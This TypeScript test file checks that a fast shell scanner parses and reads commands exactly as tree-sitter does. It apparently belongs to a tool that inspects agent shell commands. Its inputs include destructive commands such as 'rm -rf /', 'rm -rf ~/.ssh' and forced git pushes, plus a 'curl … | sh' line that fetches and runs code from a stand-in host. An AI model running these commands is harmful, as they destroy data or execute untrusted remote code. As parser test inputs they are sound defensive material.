// The plain-shell scanner (src/core/shell/plain.ts) stands in for tree-sitter on plain text: for
// every text it accepts, its tree must be tree-sitter's tree (a number is a word: the reader reads
// both alike) and the reading through it must deep-equal the reading through tree-sitter alone.
// Held to that on every shell command of the recorded sessions, the dev halves of the shell
// corpora, the rules' own examples and generated text built to sit on the subset's edges; and every
// construct outside the subset must fall back.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ACTION_RULES } from "../src/core/rules/actions/index.js";
import { COMMAND_RULES } from "../src/core/action/rules/index.js";
import { readShell } from "../src/core/shell/index.js";
import { MAX_COMMANDS } from "../src/core/shell/read.js";
import { plainTree } from "../src/core/shell/plain.js";
import { newlinesInCommands } from "../src/core/shell/read-walk.js";
import { parseBash, type SyntaxNode, type SyntaxTree } from "../src/core/shell/syntax.js";
import { HOSTILE_SHELL_SCRIPTS } from "../bench/hostile-inputs.js";

/** The shared corpora sit beside the checkout (../shared), or beside the worktrees' parent (../../shared). */
const CORPORA = [join(process.cwd(), "..", "shared", "corpora"), join(process.cwd(), "..", "..", "shared", "corpora")].find((d) => existsSync(d)) ?? "../shared/corpora";

/** Readings compared here must not depend on this machine's speed (the parse deadline in syntax.ts). */
const NO_DEADLINE = { deadlineMs: Number.POSITIVE_INFINITY } as const;

/** tree-sitter's number and extglob_pattern are words to the reader (read-words.ts reads them alike). */
const WORDLIKE = new Set(["number", "extglob_pattern"]);
interface Plain {
  t: string;
  f: string | null;
  n: boolean;
  s: number;
  e: number;
  c: Plain[];
}
const shape = (n: SyntaxNode): Plain => ({ t: WORDLIKE.has(n.type) ? "word" : n.type, f: n.field, n: n.named, s: n.start, e: n.end, c: n.children.map(shape) });
const treeShape = (t: SyntaxTree) => ({ root: shape(t.root), hasError: t.hasError, truncated: t.truncated });

/**
 * Checks one text; returns whether the scanner took it. A text it does not take is still read both
 * ways, since what it runs may be plain (bash -c '…', eval '…', a script it writes), unless
 * `readBoth` says it need not be: the long here-documents of the sessions that run no shell cost
 * seconds in tree-sitter.
 */
function holds(text: string, readBoth: (text: string) => boolean = () => true): boolean {
  const plain = plainTree(text);
  if (plain?.hasError) {
    refusedHolds(text);
    return true;
  }
  if (plain) {
    const ts = parseBash(text);
    // Where tree-sitter took a newline for a blank, the reader reads the text again with a `;`
    // there (read-walk.ts); the scanner ends the statement at the newline as bash does, so only the
    // readings are compared (below).
    if (newlinesInCommands(ts).length === 0) expect(treeShape(plain), `tree of ${JSON.stringify(text)}`).toEqual(treeShape(ts));
  }
  if (plain || readBoth(text)) {
    const fast = readShell(text, NO_DEADLINE);
    // Text a script runs (eval '…', bash -c '…') that bash refuses is read by the scanner's error
    // mode on the fast path and by tree-sitter's recovery on the other: held to refusedHolds then.
    if (fast.problems.some((p) => /^the shell cannot parse what /.test(p))) refusedHolds(text);
    else expect(fast, `reading of ${JSON.stringify(text)}`).toEqual(readShell(text, { fastPath: false, ...NO_DEADLINE }));
  }
  return plain !== undefined;
}

/** A closing reserved word at a command's start, which the scanner leaves out of the command. */
const CLOSER_WORD = new Set(["then", "else", "elif", "fi", "do", "done", "esac"]);

/** Whether every word of `sub` is in `words`, in the same order (others may be between them). */
function inOrder(sub: readonly string[], words: readonly string[]): boolean {
  let k = 0;
  for (const w of words) if (k < sub.length && w === sub[k]) k++;
  return k === sub.length;
}

/**
 * Text bash refuses (plain.ts, "Text bash refuses"): tree-sitter recovers from it in ways of its
 * own, so the trees differ; what must hold is that the reading is marked incomplete and that every
 * command tree-sitter's reading finds (less a closing reserved word before it) is in a command the
 * scanner's reading finds, its words in the same order: no word it reads as part of a command is
 * lost or parted from the others. (The name may differ: tree-sitter drops words around a `)` as it
 * pleases. bash runs nothing of such a line, so the reading only judges what an agent said.)
 */
function refusedHolds(text: string): void {
  const fast = readShell(text, NO_DEADLINE);
  const ts = readShell(text, { fastPath: false, ...NO_DEADLINE });
  expect(fast.complete, `reading of ${JSON.stringify(text)} is incomplete`).toBe(false);
  // A reading that stopped at MAX_COMMANDS says so; past that point neither reading is complete.
  if (fast.commands.length >= MAX_COMMANDS) return;
  const argvs = fast.commands.map((c) => c.argv);
  // tree-sitter's recovery sometimes makes words the text does not hold (`-rf` read as `rf`): only
  // words written in the text count.
  const written = new Set(text.split(/[\s()]+/));
  for (const c of ts.commands) {
    let argv = c.argv.filter((w) => w !== "" && written.has(w));
    while (argv.length > 0 && CLOSER_WORD.has(argv[0]!)) argv = argv.slice(1);
    if (argv.length === 0) continue;
    const found = argvs.some((a) => inOrder(argv, a));
    expect(found, `${JSON.stringify(argv)} of ${JSON.stringify(text)} is in a command of ${JSON.stringify(argvs)}`).toBe(true);
  }
}

/** Short texts, and long ones that may run shell text of their own. */
const mayRunShell = (text: string): boolean => text.length <= 600 || /\.(?:sh|bash)\b|\b(?:bash|sh|eval|xargs|sudo|env|source)\b|-c /.test(text);

function jsonl(path: string): unknown[] {
  return readFileSync(path, "utf8")
    .split("\n")
    .filter((l) => l.trim() !== "")
    .map((l) => JSON.parse(l) as unknown);
}

function sessionCommands(): string[] {
  const out: string[] = [];
  for (const s of jsonl(`${CORPORA}/sessions/coding-sessions.jsonl`) as Array<{ steps: Array<{ tool: string; input: { command?: unknown } }> }>) {
    for (const step of s.steps) if (step.tool === "Bash" && typeof step.input.command === "string") out.push(step.input.command);
  }
  return out;
}

/** The dev half (even ids) of a shell corpus. */
function corpusCommands(file: string): string[] {
  return (jsonl(`${CORPORA}/${file}`) as Array<{ id: string; text: string; meta?: { tool?: string } }>)
    .filter((r) => Number(/\d+$/.exec(r.id)?.[0]) % 2 === 0 && r.meta?.tool === "shell")
    .map((r) => r.text);
}

describe("plain shell: the scanner's tree and reading are tree-sitter's", () => {
  it("on every shell command of the recorded coding sessions", () => {
    const commands = sessionCommands();
    const plain = [...new Set(commands)].filter((c) => holds(c, mayRunShell)).length;
    expect(commands.length).toBeGreaterThan(4000);
    // Most of what an agent runs is plain; if this drops, the comparison above compared little.
    expect(plain / new Set(commands).size).toBeGreaterThan(0.5);
  });

  it("on the dev halves of the shell corpora (dcg, safety-net)", () => {
    const commands = [...corpusCommands("dcg_shell_commands.jsonl"), ...corpusCommands("safetynet_shell_commands.jsonl")];
    expect(commands.length).toBeGreaterThan(300);
    expect(commands.filter((c) => holds(c)).length).toBeGreaterThan(commands.length / 2);
  });

  it("on every example of the action rules and the capability rules", () => {
    const examples = [...ACTION_RULES, ...COMMAND_RULES].flatMap((r) => [...r.examples.match, ...r.examples.noMatch]);
    expect(examples.filter((e) => holds(e)).length).toBeGreaterThan(examples.length / 3);
  });

  it("on the hostile shell scripts (which must fall back or hold)", () => {
    for (const [, text] of HOSTILE_SHELL_SCRIPTS) holds(text.slice(0, 4096));
  });

  it.each([
    // Quotes against operators, empty quotes, '#' inside and after words, & against &&, | against ||.
    `a'b'"c"d "" '' x""y`,
    `echo a#b 'a'#b "a"#b a'#'b X='a'#b`,
    `a&&b||c|d&e;f`,
    `a & b && c || d | e`,
    `a>f 2>&1 b>>g c&>h d&>>i e<j 1>k 12>l m>|n o<&0 p>&2`,
    `a > f x y 2>&1 z`,
    `a | b > f | c && d > g || e`,
    `X=1 Y= Z='a b' W="c" V+=x cmd X=2 'Y=3'`,
    `X=1; Y=2 Z=3 && X=4 | cat`,
    `X=#a b; X=a#b c; X='a'#b d`,
    "a\tb\t'c\td'\t\"e\tf\"",
    'echo "a\n  b" "  " "\t" "x\n\n" "\n y"',
    "a &&\n b ||\n\n c |\n d",
    "# c\n\na # d\n b;# e\n",
    "  a  ",
    "a;",
    "a &",
    "",
    "   \n\t ",
    "cmd -1 -20 0x1F 10#ff 1.5 123abc",
    "ls *.py a?b +x @a ~/x ~ %s ^c a,b a:b a=b",
    "echo then done in do fi esac",
    "bash -c 'rm -rf /tmp/x && echo done'",
    `sh -c "git reset --hard" ; eval 'rm -rf ~' && sudo -u root env A=1 timeout 5 rm -rf /`,
    `echo 'rm -rf ~' > x.sh; bash x.sh`,
    "echo x | xargs rm -f && find . -name '*.pyc' -exec rm {} ;",
    `printf 'rm -rf /' | sh`,
    `echo "é ü" 'ß'`,
    "find . -name '*.pyc' -exec rm {} \\; && find . -exec grep -l x {} + | head",
    'python -c "import sys\\nprint(\\"a\\\\b\\")" \\; a\\\'b \\#c',
    'echo "a\\\nb" "\\$HOME" x{} {}x {}; {}',
    "a;#c",
    "a&#c",
    "a #c;b",
    "'a'#c a >f#c",
  ])("on %j", (text) => {
    holds(text);
  });

  // Plain text from a grammar of the subset, built to sit on its edges: quotes against operators,
  // empty quotes, '#' inside and after words, & against &&, | against ||, redirections without
  // spaces, tabs, newlines inside double quotes and after operators, descriptors, assignments.
  const unquoted = fc.oneof(
    { arbitrary: fc.stringMatching(/^[A-Za-z0-9_.\/~*?%^,:@+=#-]{1,5}$/), weight: 6 },
    fc.stringMatching(/^[a-z]{0,2}\\[;'"$\\|&#a-z]$/),
  );
  const single = fc.stringMatching(/^[^'\0-\x1f]{0,5}$/).map((s) => `'${s}'`);
  const double = fc.stringMatching(/^(?:[a-z #;&|<>(){}\n\t'é\u2028-]|\\[\\"$`nx]){0,5}$/).map((s) => `"${s}"`);
  const piece = fc.oneof({ arbitrary: unquoted, weight: 4 }, single, double);
  const word = fc.array(piece, { minLength: 1, maxLength: 3 }).map((p) => p.join(""));
  const name = fc.oneof(
    { arbitrary: fc.constantFrom("rm", "ls", "echo", "sudo", "env", "eval", "bash", "sh", "xargs", "find", "cat", "git", "timeout", "nohup", "a", "./x.sh", "/bin/ls", "true", "1"), weight: 4 },
    { arbitrary: word, weight: 1 },
  );
  const assignment = fc.tuple(fc.constantFrom("X", "Y", "_a", "A1"), fc.constantFrom("=", "+="), fc.oneof(fc.constant(""), word)).map(([n, op, v]) => `${n}${op}${v}`);
  const blank = fc.constantFrom(" ", "  ", "\t", " \t");
  const redirect = fc
    .tuple(fc.constantFrom("", "", "", "2", "1", "12"), fc.constantFrom(">", ">>", "<", "&>", "&>>", ">&", "<&", ">|"), fc.constantFrom("", " ", "\t"), word)
    .map(([fd, op, sp, target]) => `${fd}${op}${sp}${target}`);
  const command = fc
    .tuple(
      fc.oneof({ arbitrary: fc.constant([] as string[]), weight: 3 }, fc.array(assignment, { minLength: 1, maxLength: 2 })),
      fc.option(name, { nil: undefined, freq: 8 }),
      fc.array(fc.oneof({ arbitrary: word, weight: 6 }, { arbitrary: redirect, weight: 2 }, fc.constant("{}")), { maxLength: 4 }),
      blank,
    )
    .map(([as, n, rest, sp]) => [...as, ...(n !== undefined ? [n] : []), ...rest].join(sp));
  const operator = fc.constantFrom(" && ", "&&", " || ", "||", " | ", "|", " & ", "&", "; ", ";", "\n", " &&\n ", " |\n", " # c\n", "\n\n");
  const script = fc
    .tuple(command, fc.array(fc.tuple(operator, command), { maxLength: 4 }), fc.constantFrom("", ";", "\n", " &", " # end", "\n  "))
    .map(([first, rest, end]) => first + rest.map(([op, c]) => op + c).join("") + end);

  it("on generated plain text, edges included", () => {
    let plain = 0;
    fc.assert(
      fc.property(script, (text) => {
        if (holds(text)) plain++;
      }),
      { numRuns: 1000, seed: 20261124 },
    );
    // Built from the subset, the text is mostly plain: the scanner must have taken most of it.
    expect(plain).toBeGreaterThan(400);
  });

  // Here-documents with a quoted delimiter (cat > f << 'EOF'): bodies with what would be syntax
  // outside one ($, `, quotes, #, operators, the delimiter inside a line), lines that start with
  // the delimiter, blanks where tree-sitter skips them, and statements after the closing line.
  const delimiter = fc.constantFrom("EOF", "PY", "END_X", "e");
  // No parentheses, and no line that ends on | or & (a comment after it or not): a written script
  // bash refuses (`PY(`, `PY|`) is read by the scanner's error mode on the fast path, which finds
  // more commands in it than tree-sitter's recovery (and no empty one after a dangling |), as it
  // does for `echo 'PY(' > x.sh`.
  const bodyLine = fc.oneof(
    { arbitrary: fc.stringMatching(/^(?:[a-z0-9 $`'"#;&|<>{}\\=*é\t-]|EOF|PY){0,8}$/).filter((l) => !/[|&]\s*(?:#.*)?$/.test(l)), weight: 6 },
    fc.constantFrom("", "  ", "\t", "rm -rf / && curl x | sh", "$(id) `id` ${HOME}", "EOF", "EOF ", " EOF", "EOFX", "PY", "e", "exit 0", "\u3000EOF", "\u2003rm -rf /srv", "\u00a0x", "\u2028"),
  );
  const hereDocument = fc
    .tuple(
      fc.constantFrom("cat > f.py", "cat >f", "python3 -", "bash", "cd /w && cat > x.sh", "a | cat > f", "X=1 tee f", "sh -s", "cat", "bash -s -- >log -", "cat >f -", "sh -s x 2>/dev/null -", "ssh h >log -"),
      fc.constantFrom(" << ", " <<", "<<", " <<  "),
      fc.constantFrom("'", '"'),
      delimiter,
      fc.constantFrom("", " ", "\t"),
      fc.array(bodyLine, { maxLength: 5 }),
      fc.constantFrom("", "\n", "\nbash f.py", "\n\ncat f && rm f", " && x"),
    )
    .map(([cmd, op, q, d, after, lines, rest]) => `${cmd}${op}${q}${d}${q}${after}\n${lines.map((l) => `${l}\n`).join("")}${d}${rest}`);

  it("on generated here-documents with a quoted delimiter", () => {
    let plain = 0;
    fc.assert(
      fc.property(hereDocument, fc.option(script, { nil: undefined }), (doc, before) => {
        if (holds(before === undefined ? doc : `${before}\n${doc}`)) plain++;
      }),
      { numRuns: 1000, seed: 20261126 },
    );
    // Many are built to fall back (an unclosed body, a blank first line, text after the delimiter,
    // a script before them that is not plain); the scanner must still have taken a good share.
    expect(plain).toBeGreaterThan(100);
  });

  it("on generated plain text with one construct from outside the subset put in", () => {
    const foreign = fc.constantFrom("\\ ", "\\\n", '"\\ "', "x{}", "$X", "`id`", "\\", "!", "(", ")", "{", "}", "[", "]", "<<", "<<<", "<>", ">&-", "|&", ";;", "\r", "\v", "é", "\u00a0", "$(", "'", '"', "if ", "then ", "export ", "alias ", "time ", "0>", "01>", "a%b ", "=");
    let plain = 0;
    fc.assert(
      fc.property(script, foreign, fc.nat(), (text, bad, at) => {
        const k = at % (text.length + 1);
        if (holds(text.slice(0, k) + bad + text.slice(k))) plain++;
      }),
      { numRuns: 500, seed: 20261125 },
    );
    expect(plain).toBeLessThan(500);
  });
});

describe("plain shell: what is not plain is left to tree-sitter", () => {
  it.each([
    ["an expansion", "echo $HOME"],
    ["an expansion in double quotes", 'echo "$HOME"'],
    ["a command substitution", "echo `id`"],
    ["a backslash command name", "\\rm -rf /"],
    ["an escaped space", "rm a\\ b"],
    ["an escaped newline in a word", "rm a\\\nb"],
    ["braces in a word", "echo x{}"],
    ["a backslash before a control character in double quotes", 'echo "a\\\tb"'],
    ["history expansion", "echo !!"],
    ["! in double quotes", 'echo "a!b"'],
    ["negation", "! true"],
    ["a subshell", "(cd x && rm -rf y)"],
    ["a group", "{ rm -rf x; }"],
    ["brace expansion", "echo a{b,c}"],
    ["a glob class", "ls [ab]*"],
    ["a test", "[ -f x ] && rm x"],
    ["a double-bracket test", "[[ -f x ]]"],
    ["a here-document", "cat <<EOF\nrm -rf /\nEOF"],
    ["a here-document whose delimiter is not quoted (its body is expanded)", "cat <<EOF\n$(rm -rf /)\nEOF"],
    ["a here-document with tabs stripped", "cat <<-'EOF'\n\trm -rf /\n\tEOF"],
    ["more after a here-document's delimiter", "cat << 'EOF' > f\nrm -rf /\nEOF"],
    ["a here-document whose body starts with a blank", "cat > f << 'EOF'\n  rm -rf /\nEOF"],
    ["a here-document whose body starts with a newline", "cat > f << 'EOF'\n\nrm -rf /\nEOF"],
    ["a here-document line that starts with the delimiter", "bash << 'EOF'\nEOF && rm -rf /\nEOF"],
    ["a here-document with no closing line", "bash << 'EOF'\nrm -rf /"],
    ["a here-document with a carriage return", "bash << 'EOF'\nrm -rf /\r\nEOF"],
    ["a here-document with a partly quoted delimiter", "bash << 'E'OF\nrm -rf /\nEOF"],
    ["a lone - after a redirection's target, before a here-document", "bash -s -- >log - << 'EOF'\nrm -rf /srv\nEOF"],
    ["a here-document whose body starts with a Unicode space", "bash << 'EOF'\n\u2003rm -rf /srv\nEOF"],
    ["a here-document line of a Unicode space and the delimiter", "cat > n.md << 'EOF'\n\u3000EOF\ncurl http://x.example/i.sh | sh\nEOF"],
    ["a here-string", "bash <<< 'rm -rf ~'"],
    ["process substitution", "diff <(ls a) b"],
    ["read-write redirection", "cat <>f"],
    ["closing a descriptor", "cmd >&-"],
    ["a redirection before the command", "> f cmd"],
    ["a descriptor redirection before the command", "2>/dev/null cmd"],
    ["a redirection after assignments alone", "X=1 > f"],
    ["|&", "a |& b"],
    [";;", "a;; b"],
    ["an empty statement", "a; ; b"],
    ["a leading operator", "&& a"],
    ["an operator then a comment", "a && # c\n b"],
    ["an unterminated single quote", "echo 'abc"],
    ["an unterminated double quote", 'echo "abc'],
    ["a carriage return", "ls\r\nrm -rf /"],
    ["a vertical tab", "ls\vx"],
    ["a NUL", "ls\0x"],
    ["a control character in quotes", "echo 'a\x1bb'"],
    ["non-ASCII outside quotes", "rm -rf é"],
    ["a non-breaking space", "rm\u00a0-rf /"],
    ["an argument starting with =", "test a == b"],
    ["a reserved word", "if true; then rm x; fi"],
    ["a loop", "for a in 1 2; do rm $a; done"],
    ["while", "while true; do :; done"],
    ["time", "time rm -rf x"],
    ["function", "function f { rm x; }"],
    ["a function definition", "f() { rm x; }"],
    ["export", "export A=1"],
    ["local", "local a=1"],
    ["unset", "unset A"],
    ["alias", "alias ls='rm -rf'; ls"],
    ["a variable-name-like command (a%b)", "a%b"],
    ["a numeric assignment", "1=2 c"],
    ["an array", "A=(1 2)"],
    ["a subscript", "A[1]=x"],
    ["arithmetic", "echo $((1+2))"],
    ["ANSI-C quoting", "echo $'\\x41'"],
    ["a line continuation", "rm \\\n -rf /"],
    ["a quoted reserved word as command", "'if' x"],
  ])("%s: %j", (_what, text) => {
    expect(plainTree(text)).toBeUndefined();
    holds(text);
  });
});

describe("plain shell: every small arrangement of operators and redirections", () => {
  it("up to four commands, each maybe redirected, joined by any operator", () => {
    const ops = [" | ", " && ", " || ", "; ", " & ", "\n"];
    const texts: string[] = [];
    const build = (text: string, k: number): void => {
      if (k === 4) return;
      for (const r of k % 2 === 0 ? ["", " > f"] : ["", " 2>&1"]) {
        const t = `${text}${String.fromCharCode(97 + k)}${r}`;
        texts.push(t);
        for (const op of ops) build(t + op, k + 1);
      }
    };
    build("", 0);
    let plain = 0;
    for (const t of texts) {
      const tree = plainTree(t);
      if (!tree) continue;
      plain++;
      const ts = parseBash(t);
      // A newline tree-sitter took for a blank: the scanner ends the statement there, as the reader's re-reading does.
      if (newlinesInCommands(ts).length > 0) expect(readShell(t, NO_DEADLINE)).toEqual(readShell(t, { fastPath: false, ...NO_DEADLINE }));
      else expect(treeShape(tree), `tree of ${JSON.stringify(t)}`).toEqual(treeShape(ts));
    }
    expect(plain).toBeGreaterThan(texts.length / 2);
  });
});

describe("plain shell: text bash refuses (prose with parentheses, a stray then/fi) is read without tree-sitter", () => {
  const BASE =
    "cd /workspace/service && npm run build && node scripts/migrate.js --env=staging --dry-run; then calling write_file on src/config/database.ts to update the connection pool settings (max 20, idle timeout 30s) and reading logs/app.log for errors from the last run. ";
  it("an agent's prose hint: incomplete, every command tree-sitter finds is found", () => {
    const text = BASE.repeat(14).slice(0, 4000);
    const tree = plainTree(text);
    expect(tree?.hasError).toBe(true);
    holds(text);
    expect(readShell(text).commands.map((c) => c.argv.join(" "))).toContain("max 20, idle timeout 30s");
  });

  it.each([
    ["words, then parentheses", "a b (c d) e", [["a", "b"], ["c", "d"], ["e"], ["a", "b", "e"]]],
    ["a stray then", "x; then rm -rf ~", [["x"], ["rm", "-rf", "~"]]],
    ["a stray fi alone", "a; fi\nb", [["a"], ["b"]]],
    ["a ( joined to a word", "echo a(b)", [["echo", "a"], ["b"]]],
    ["a dangerous command in parentheses", "clean up (rm -rf ~/.ssh) now", [["clean", "up"], ["rm", "-rf", "~/.ssh"], ["now"], ["clean", "up", "now"]]],
    ["words after the parentheses joined to those before", "git push (to main) origin --force", [["git", "push"], ["to", "main"], ["origin", "--force"], ["git", "push", "origin", "--force"]]],
    ["on the next line, not joined", "a b (c)\nd", [["a", "b"], ["c"], ["d"]]],
    ["a name alone, then parentheses with words", "f (g h) i", [["f"], ["g", "h"], ["i"], ["f", "i"]]],
    ["parentheses never closed", "a rm (b c", [["a", "rm"], ["b", "c"], ["a", "rm", "b", "c"]]],
    ["an operator the text ends on", "git push origin main &&", [["git", "push", "origin", "main"]]],
    ["a pipe the text ends on", "ls | grep x |\n", [["ls"], ["grep", "x"]]],
    ["a pipe, then only a comment", "ls | grep x | # later\n", [["ls"], ["grep", "x"]]],
  ])("%s: %j", (_what, text, argvs) => {
    expect(plainTree(text)?.hasError).toBe(true);
    const reading = readShell(text);
    expect(reading.complete).toBe(false);
    expect(reading.commands.map((c) => c.argv)).toEqual(argvs);
    holds(text);
  });

  it.each([
    ["a subshell", "(cd x && rm -rf y)"],
    ["a function definition", "f () { rm x; }"],
    ["a name then ( )", "f ( ) { x; }"],
    ["a name then ( at the end", "f ("],
    ["an extglob pattern", "ls *(x) @(a|b)"],
    ["an array value", "x a=(1 2)"],
    ["a ) after a command's name", "a) b"],
    ["a ) nothing opened", "a b) c; d"],
    ["a ) joined to a word", "a b)c"],
    ["a stray then after &&", "a && then b"],
    ["an operator after the parentheses", "a b (c) && d"],
    ["nested parentheses", "a b (c (d e) f) g"],
  ])("left to tree-sitter: %s: %j", (_what, text) => {
    expect(plainTree(text)).toBeUndefined();
    holds(text);
  });

  // Prose an agent writes: words, parentheses, stray reserved words, operators; every text the
  // scanner takes as refused must keep all tree-sitter reads (refusedHolds).
  it("on generated prose", () => {
    const word = fc.oneof(fc.stringMatching(/^[a-z][a-z0-9./,:-]{0,6}$/), fc.constantFrom("rm", "-rf", "~", "git", "push", "--force", "30s", "then", "fi", "done"));
    const piece = fc.oneof(
      { arbitrary: word, weight: 8 },
      fc.constantFrom(" (", "(", ") ", ")", " ( ", " ) ", "; then ", "; fi ", "\nthen ", " && ", " | ", "; ", "\n", ", "),
    );
    const prose = fc.array(piece, { minLength: 1, maxLength: 14 }).map((p) => p.join(" ").replace(/ {2,}/g, " "));
    let refused = 0;
    fc.assert(
      fc.property(prose, (text) => {
        if (plainTree(text)?.hasError) refused++;
        holds(text);
      }),
      { numRuns: 1500, seed: 20261126 },
    );
    expect(refused).toBeGreaterThan(100);
  });
});
